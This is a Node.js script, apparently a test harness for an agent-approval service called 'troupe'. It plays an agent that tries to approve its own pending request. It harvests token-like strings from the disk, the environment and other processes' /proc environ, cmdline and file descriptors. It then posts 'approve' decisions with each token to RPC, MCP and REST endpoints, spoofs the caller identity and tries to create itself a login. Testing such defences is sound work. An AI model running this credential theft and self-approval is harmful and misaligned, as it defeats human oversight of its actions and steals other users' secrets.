// What a step of an agent would try that wants to approve its own request: looks for credentials on the disk, in the environment, in /proc and in
// sockets, and tries all that it finds at every door. Arguments: data directory, URL of the JSON-RPC door, URL of the routes, request, a person's home.
import { lstatSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { dirname, join } from 'node:path';

const [dataDir, rpc, api, request, home] = process.argv.slice(2);
const LIKE_A_TOKEN = /[A-Za-z0-9_-]{32,}(?:\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)?/g;
const MOST_FILES = 20_000;
const MOST_TRIES = 40;

const read = (file) => {
  try {
    return lstatSync(file).size > 65_536 ? '' : readFileSync(file, 'latin1');
  } catch {
    return '';
  }
};
const list = (folder) => {
  try {
    return readdirSync(folder, { withFileTypes: true });
  } catch {
    return [];
  }
};

const seen = new Set();
function* files(folder) {
  for (const entry of list(folder)) {
    const path = join(folder, entry.name);
    if (seen.size > MOST_FILES || seen.has(path) || entry.name === 'node_modules' || entry.name === '.git') continue;
    seen.add(path);
    if (entry.isDirectory()) yield* files(path);
    else if (entry.isFile()) yield path;
  }
}

const found = new Map();
function keep(where, text, likely) {
  for (const [token] of text.matchAll(LIKE_A_TOKEN)) if (!found.has(token)) found.set(token, { where, likely });
}

// The disk: where the node keeps its own things first, by every name that leads there.
const roots = [dataDir, join(home, '.config/troupe'), home, dirname(dataDir), process.cwd(), process.env.HOME ?? '/root', '/run'];
const credentials = [];
for (const place of roots) {
  for (const file of files(place)) {
    const ours = /(^|\/)(admin\.token|node\.json|auth\.db|keys\/[^/]+|tickets\/[^/]+)$/.test(file) && file.includes(dataDir);
    const likely = ours || file.endsWith('troupe/logins.json');
    if (likely) credentials.push(file);
    keep(file, read(file), likely);
  }
}
// The environment, and /proc: of itself and of everybody else.
keep('environment', Object.values(process.env).join('\n'), false);
let processes = 0;
for (const { name } of list('/proc').filter((entry) => /^\d+$/.test(entry.name))) {
  const command = read(`/proc/${name}/cmdline`);
  for (const link of [`/proc/${name}/root${dataDir}/admin.token`, `/proc/${name}/cwd/admin.token`]) keep(link, read(link), true);
  if (command.includes('troupe.js')) processes += 1;
  keep(`/proc/${name}`, `${command}\n${read(`/proc/${name}/environ`)}`, /TROUPE_/.test(read(`/proc/${name}/environ`)));
  for (const { name: descriptor } of list(`/proc/${name}/fd`)) {
    try {
      if (readlinkSync(`/proc/${name}/fd/${descriptor}`).startsWith(dataDir)) credentials.push(`/proc/${name}/fd/${descriptor}`);
    } catch {
      // It has gone.
    }
  }
}

const post = async (url, token, body, caller = 'ann') => {
  const headers = {
    'content-type': 'application/json',
    accept: 'application/json, text/event-stream',
    'x-troupe-caller': caller,
    ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
  };
  try {
    const response = await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) });
    const answer = await response.json();
    const code = answer.error?.data?.code ?? answer.code;
    return answer.result !== undefined || (code === undefined && response.ok) ? 'done' : String(code ?? response.status);
  } catch (error) {
    return `unreachable: ${error.cause?.code ?? error.message}`;
  }
};
const decision = { decision: 'approve', reason: 'it is fine' };
const doors = (token) => [
  post(`${rpc}/rpc`, token, { jsonrpc: '2.0', id: 1, method: 'approval.decide', params: { request, ...decision } }),
  post(`${rpc}/mcp`, token, { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'approval_decide', arguments: { request, ...decision } } }),
  post(`${api}/api/v1/approvals/${request}/decision`, token, decision),
  // In the name of the agent that asks, and as somebody who makes a login for itself.
  post(`${rpc}/rpc`, token, { jsonrpc: '2.0', id: 1, method: 'approval.decide', params: { request, ...decision } }, 'testing'),
  post(`${rpc}/rpc`, token, { jsonrpc: '2.0', id: 1, method: 'user.link', params: {} }),
];
const tokens = [...found].sort(([, a], [, b]) => Number(b.likely) - Number(a.likely)).slice(0, MOST_TRIES);
const answers = await Promise.all(doors(undefined));
for (const [token] of tokens) answers.push(...(await Promise.all(doors(token))));
const counted = Object.fromEntries([...new Set(answers)].map((answer) => [answer, answers.filter((one) => one === answer).length]));
console.log(JSON.stringify({ credentials, processes, searched: seen.size, tried: tokens.length, answers: counted }));
